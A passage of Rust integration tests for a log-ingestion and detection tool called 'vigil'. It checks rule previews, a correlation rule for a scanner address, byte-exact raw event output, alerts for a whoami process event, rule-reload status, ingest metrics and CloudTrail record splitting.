    for (folder, title) in [(&later, "Notepad Opens A Report"), (&rules, "Whoami Run")] {
        let out = crate::support::vigil()
            .args(["hunt", "--format", "jsonl", "-r"])
            .arg(folder)
            .arg(&stored)
            .output()
            .unwrap();
        let hits: Vec<Value> = ok(out)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0]["rule_title"], title, "{hits:?}");
    }
    // Or the server runs it over what it holds, as it would have matched the events.
    std::fs::write(
        later.join("broken.yml"),
        "title: Broken\ndetection:\n  x: 1\n",
    )
    .unwrap();
    let shown = cli(&[
        "rules",
        "preview",
        later.to_str().unwrap(),
        "--since",
        "36500d",
    ]);
    let text = ok(shown.clone());
    assert!(
        text.contains("Notepad Opens A Report") && text.contains("1 match, 1 shown"),
        "{text}"
    );
    // Correlations run per tenant: each match says whose event it is.
    let header = text.lines().find(|l| l.contains("RULE")).unwrap();
    assert!(
        header.contains("SERVICE") && header.contains("TENANT"),
        "{text}"
    );
    let row = text.lines().find(|l| l.contains("Notepad")).unwrap();
    assert!(row.contains("app") && row.contains("acme"), "{text}");
    assert!(
        stderr(&shown).contains("broken.yml"),
        "a bad rule is named by its file: {}",
        stderr(&shown)
    );
    let found = json_of(cli(&[
        "rules",
        "preview",
        later.join("notepad.yml").to_str().unwrap(),
        "--since",
        "36500d",
        "--query",
        "notepad",
        "--json",
    ]));
    assert_eq!(found["total_matches"], 1, "{found}");
    assert_eq!(found["events_read"], 1, "{found}");
    assert_eq!(found["matches"][0]["event"]["service"], "app", "{found}");
    // A correlation rule is previewed too, over the matched events oldest first.
    let correlated = f.root.join("correlated");
    std::fs::create_dir(&correlated).unwrap();
    std::fs::write(
        correlated.join("scanner.yml"),
        "title: Request From The Scanner
id: 0b7e3c1a-1d2e-4f5a-8b9c-0d1e2f3a4b01
name: scanner_request
logsource:
  category: webserver
detection:
  selection:
    source.ip: 203.0.113.77
  condition: selection
level: low
---
title: Scanner Touches Two Hosts
id: 0b7e3c1a-1d2e-4f5a-8b9c-0d1e2f3a4b02
correlation:
  type: value_count
  rules: [scanner_request]
  group-by: [source.ip]
  timespan: 10m
  condition:
    field: host.name
    gte: 2
level: high
",
    )
    .unwrap();
    let text = ok(cli(&[
        "rules",
        "preview",
        correlated.to_str().unwrap(),
        "--since",
        "36500d",
    ]));
    assert!(
        text.contains("Scanner Touches Two Hosts")
            && text
                .contains("2 distinct values of host.name for source.ip=203.0.113.77 within 10m")
            && text.contains("2 rules run over all 5 events of the window: 1 match, 1 shown"),
        "{text}"
    );
    for (flag, says) in [
        ("--raw", "--raw prints events"),
        ("--fields=host", "--fields picks the columns of events"),
    ] {
        let refused = cli(&["search", "* | count by service", flag]);
        assert!(!refused.status.success());
        assert!(stderr(&refused).contains(says), "{}", stderr(&refused));
    }
}

/// The same `vigil ingest` run again: the detections of the batches an earlier run stored are
/// counted apart, as recorded by that run, not as this run's.
#[test]
fn ingest_run_again_counts_no_detection_of_an_earlier_run_as_new() {
    let f = start();
    let file = f.root.join("app.jsonl");
    std::fs::write(&file, app_jsonl()).unwrap();
    let path = file.to_str().unwrap();
    let args = ["ingest", path, "--service", "app", "--batch", "2", "--json"];
    let first = json_of(f.server.cli(&f.token, &args));
    assert_eq!(first["detections"], 1, "{first}");
    assert_eq!(first["detections_earlier"], 0, "{first}");
    let again = json_of(f.server.cli(&f.token, &args));
    assert_eq!(again["already_stored"], 5, "{again}");
    assert_eq!(again["detections"], 0, "{again}");
    assert_eq!(again["detections_earlier"], 1, "{again}");
    let text = ok(f.server.cli(&f.token, &args[..args.len() - 1]));
    assert!(
        text.contains(
            "detections: 0 (1 more recorded by an earlier run, for the events already stored)"
        ),
        "{text}"
    );
}

/// `vigil ingest` without --service (and a token bound to none) says to add --service, not
/// the API's query parameter.
#[test]
fn ingest_without_a_service_says_to_add_service() {
    let f = start();
    let file = f.root.join("web.jsonl");
    std::fs::write(&file, app_jsonl()).unwrap();
    let out = f.server.cli(&f.token, &["ingest", file.to_str().unwrap()]);
    assert!(!out.status.success());
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        said.contains("add --service NAME (the service these logs come from)"),
        "{said}"
    );
    assert!(!said.contains("?service="), "{said}");
}

/// `vigil search --raw` prints each event in the text it was sent in, byte for byte (numbers as
/// written: `1e3`, `1.50`, an integer beyond 64 bits; escapes; spacing), from a JSON lines
/// file and from a pretty-printed JSON array alike (that one on one line, its line breaks
/// dropped); `--json` carries the same text as `event`, and `vigil hunt -` reads `--raw` back.
/// They came back as `1000.0`, `1.5e+300` and `1.2345678901234568e+29`.
#[test]
fn search_raw_prints_events_in_the_text_they_were_sent_in() {
    let f = start();
    let cli = |args: &[&str]| f.server.cli(&f.token, args);
    let line = r#"{"@timestamp":"2026-11-30T10:10:00Z","f":1e3,"exp":1.5e300,"big":123456789012345678901234567890,"s":"caf\u00e9 \/x",  "sp" : 1.50,"t":10E-2}"#;
    let lines = f.root.join("numbers.jsonl");
    std::fs::write(&lines, format!("{line}\n")).unwrap();
    let array = f.root.join("pretty.json");
    let element = "{\n  \"@timestamp\": \"2026-11-30T10:10:01Z\",\n  \"Event\": {\"System\": {\"EventID\": 1, \"Channel\": \"Microsoft-Windows-Sysmon/Operational\", \"Provider\": {\"#attributes\": {\"Name\": \"Microsoft-Windows-Sysmon\"}}}, \"EventData\": {\"Image\": \"C:\\\\Windows\\\\System32\\\\whoami.exe\", \"n\": 1E2}}\n}";
    std::fs::write(&array, format!("[\n{element}\n]\n")).unwrap();
    for file in [&lines, &array] {
        ok(cli(&[
            "ingest",
            file.to_str().unwrap(),
            "--service",
            "raw",
            "--wait",
        ]));
    }
    let window = ["--from", "2026-11-01", "--to", "2026-12-31"];
    let raw = ok(cli(
        &[&["search", "service:raw", "--raw"][..], &window].concat()
    ));
    // On one line as `vigil hunt` writes it: line breaks and the indentation after them dropped.
    let element_line = element.replace("\n  ", "").replace('\n', "");
    assert_eq!(raw, format!("{element_line}\n{line}\n"));
    let json = ok(cli(
        &[&["search", "service:raw", "--json"][..], &window].concat()
    ));
    assert!(json.contains(&format!("\"event\":{line}}}\n")), "{json}");
    assert!(
        json.contains(&format!("\"event\":{element_line}}}\n")),
        "{json}"
    );
    // Values shown by name, and an event's summary, read numbers as they were sent too.
    let csv = ok(cli(&[
        &[
            "search",
            "service:raw",
            "--fields",
            "f,exp,big,sp,t",
            "--csv",
        ][..],
        &window,
    ]
    .concat()));
    let row = "2026-11-30T10:10:00.000Z,1e3,1.5e300,123456789012345678901234567890,1.50,10E-2";
    assert!(csv.lines().any(|l| l == row), "{csv}");
    let table = ok(cli(&[&["search", "service:raw"][..], &window].concat()));
    assert!(
        table.contains("f=1e3 exp=1.5e300 big=123456789012345678901234567890"),
        "{table}"
    );
    let out = crate::support::output_with_input(
        crate::support::vigil()
            .args(["hunt", "--format", "jsonl", "-r"])
            .arg(f.root.join("rules"))
            .arg("-"),
        raw.into_bytes(),
    );
    let hits: Vec<Value> = ok(out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0]["rule_title"], "Whoami Run", "{hits:?}");
}

#[test]
fn alerts_show_keeps_the_numbers_of_its_events_as_they_were_sent() {
    let f = start();
    let cli = |args: &[&str]| f.server.cli(&f.token, args);
    // A whoami run whose numbers a `serde_json::Value` would rewrite: 1e3 → 1000.0, 1.50 → 1.5,
    // a 30-digit record id → 1.2345678901234568e+29.
    let line = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"EventRecordID":123456789012345678901234567890,"Computer":"ws01.corp.example","Channel":"Microsoft-Windows-Sysmon/Operational","TimeCreated":{"#attributes":{"SystemTime":"2026-11-30T10:10:00Z"}}},"EventData":{"Image":"C:\\Windows\\System32\\whoami.exe","Weird":1e3,"Price":1.50,"Big":123456789012345678901234567890}}}"##;
    let file = f.root.join("numbers.jsonl");
    std::fs::write(&file, format!("{line}\n")).unwrap();
    ok(cli(&[
        "ingest",
        file.to_str().unwrap(),
        "--service",
        "ws",
        "--wait",
    ]));
    let json = eventually("the alert of the whoami run", || {
        let out = cli(&["alerts", "show", "ALR-1", "--json"]);
        out.status.success().then(|| ok(out))
    });
    let alert: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(alert["events"].as_array().map(Vec::len), Some(1), "{json}");
    // The event's text byte for byte, as the server sent it.
    assert!(json.contains(line), "{json}");
    // The table a triager reads shows the numbers as written too.
    let shown = ok(cli(&["alerts", "show", "ALR-1"]));
    for part in [
        "Weird=1e3",
        "Price=1.50",
        "Big=123456789012345678901234567890",
    ] {
        assert!(shown.contains(part), "{part} missing: {shown}");
    }
}

/// A reload by SIGHUP answers no one: when it fails, `vigil rules status` says when and why
/// (the rules loaded before stay in force) until a reload succeeds.
#[test]
fn a_failed_sighup_reload_shows_in_rules_status_until_one_succeeds() {
    let f = start();
    let hangup = || {
        let status = std::process::Command::new("kill")
            .args(["-HUP", &f.server.child.id().to_string()])
            .status()
            .expect("run kill");
        assert!(status.success());
    };
    let status = || ok(f.server.cli(&f.token, &["rules", "status"]));
    assert!(!status().contains("FAILED"), "{}", status());
    let broken = f.root.join("rules").join("zz_broken.yml");
    let whoami = RULE_WHOAMI.replace(
        "11111111-1111-1111-1111-111111111111",
        "22222222-2222-2222-2222-222222222222",
    );
    std::fs::write(
        &broken,
        whoami.replace("condition: selection", "condition: selection and"),
    )
    .unwrap();
    hangup();
    wait_for("the failed reload in rules status", || {
        status().contains("FAILED")
    });
    let shown = status();
    assert!(
        shown.contains("the last reload FAILED at")
            && shown.contains("zz_broken.yml")
            && shown.contains("1 rule loaded"),
        "{shown}"
    );
    std::fs::remove_file(&broken).unwrap();
    hangup();
    wait_for("a successful reload to clear it", || {
        !status().contains("FAILED")
    });
}

/// Batches the log store refuses (its journal cannot grow: a full disk, here a file-size limit
/// on the server) are counted in the metrics by reason, with their events, beside the batches
/// stored, and a gauge says the journal is failing.
#[test]
fn batches_the_log_store_refuses_are_counted_in_the_metrics() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let token = admin_token(&data, "admin", "alice");
    // 2 MiB: room for the database and a few batches of the journal.
    let server = Server::start_with_file_size_limit(&data, 4096);
    let line = |n: u64| format!("{{\"n\":{n},\"message\":\"{}\"}}\n", "x".repeat(200));
    let (stored, refused) = crate::support::runtime().block_on(async {
        let http = reqwest::Client::new();
        let (mut stored, mut refused) = (0u64, 0u64);
        for batch in 0..40u64 {
            let body: String = (0..1000).map(|i| line(batch * 1000 + i)).collect();
            let resp = http
                .post(format!("{}/api/v1/events?service=app", server.url))
                .bearer_auth(&token)
                .header("content-type", "application/x-ndjson")
                .body(body)
                .send()
                .await
                .unwrap();
            match resp.status().as_u16() {
                200 | 201 => stored += 1,
                503 => {
                    let body: Value = resp.json().await.unwrap();
                    assert_eq!(body["error"]["code"], "not_stored", "{body}");
                    refused += 1;
                }
                other => panic!("{other}: {}", resp.text().await.unwrap()),
            }
        }
        (stored, refused)
    });
    assert!(
        stored > 0 && refused > 0,
        "stored {stored}, refused {refused}"
    );
    let metrics = crate::support::runtime().block_on(async {
        reqwest::Client::new()
            .get(format!("{}/api/v1/metrics", server.url))
            .bearer_auth(&token)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap()
    });
    let value = |name: &str| {
        metrics
            .lines()
            .find_map(|l| l.strip_prefix(name)?.strip_prefix(' '))
            .unwrap_or_else(|| panic!("no {name} in\n{metrics}"))
            .to_owned()
    };
    assert_eq!(value("vigil_ingest_batches_total"), stored.to_string());
    assert_eq!(
        value("vigil_ingest_batches_not_stored_total{reason=\"journal\"}"),
        refused.to_string()
    );
    assert_eq!(
        value("vigil_events_not_stored_total{reason=\"journal\"}"),
        (refused * 1000).to_string()
    );
    assert_eq!(
        value("vigil_ingest_batches_not_stored_total{reason=\"closed\"}"),
        "0"
    );
    assert_eq!(value("vigil_log_store_journal_failing"), "1");
}

/// CloudTrail's delivery file (`{"Records":[…]}`) is its records, one event each, read by
/// `vigil ingest` from a file and by the server from a request body: it was stored as one
/// event, and no CloudTrail rule could fire.
#[test]
fn an_object_of_records_is_ingested_as_its_records() {
    let f = start();
    let records = [
        r#"{"eventVersion":"1.08","eventTime":"2024-03-05T10:11:12Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets"}"#,
        r#"{"eventVersion":"1.08","eventTime":"2024-03-05T10:12:12Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}"#,
        r#"{"eventVersion":"1.08","eventTime":"2024-03-05T10:13:12Z","eventSource":"iam.amazonaws.com","eventName":"CreateUser"}"#,
    ];
    let cloudtrail = format!(r#"{{"Records":[{}]}}"#, records.join(","));
    let file = f.root.join("CloudTrail.json");
    std::fs::write(&file, &cloudtrail).unwrap();
    let summary = json_of(f.server.cli(
        &f.token,
        &[
            "ingest",
            file.to_str().unwrap(),
            "--service",
            "aws",
            "--json",
        ],
    ));
    assert_eq!(summary["events_read"], 3, "{summary}");
    assert_eq!(summary["stored"], 3, "{summary}");
    let answer: Value = crate::support::runtime().block_on(async {
        reqwest::Client::new()
            .post(format!("{}/api/v1/events?service=aws", f.server.url))
            .bearer_auth(&f.token)
            .header("content-type", "application/json")
            .body(format!(r#"{{"records":[{},{{"x":1}}]}}"#, records[1]))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    });
    assert_eq!(answer["stored"], 2, "{answer}");
}
